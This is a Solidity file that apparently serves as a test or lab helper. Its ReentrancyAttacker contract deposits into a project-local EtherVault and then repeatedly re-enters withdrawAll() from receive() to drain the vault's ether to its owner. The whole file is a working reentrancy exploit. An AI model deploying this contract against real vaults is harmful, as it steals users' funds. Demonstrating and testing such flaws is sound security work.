// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {EtherVault} from "../core/EtherVault.sol";

/// @notice Deposits into the vault, then calls withdrawAll() and re-enters it from receive() for as long as
/// the vault still holds a full payout; sends the proceeds to its owner in the same transaction.
contract ReentrancyAttacker {
    EtherVault public immutable vault;
    address public immutable owner;
    uint256 public reentries;

    constructor(EtherVault vault_) {
        vault = vault_;
        owner = msg.sender;
    }

    function attack() external payable {
        require(msg.sender == owner, "ReentrancyAttacker: not owner");
        vault.deposit{value: msg.value}();
        vault.withdrawAll();
        (bool ok,) = payable(owner).call{value: address(this).balance}("");
        require(ok, "ReentrancyAttacker: payout failed");
    }

    receive() external payable {
        if (msg.sender == address(vault) && address(vault).balance >= msg.value) {
            reentries += 1;
            vault.withdrawAll();
        }
    }
}
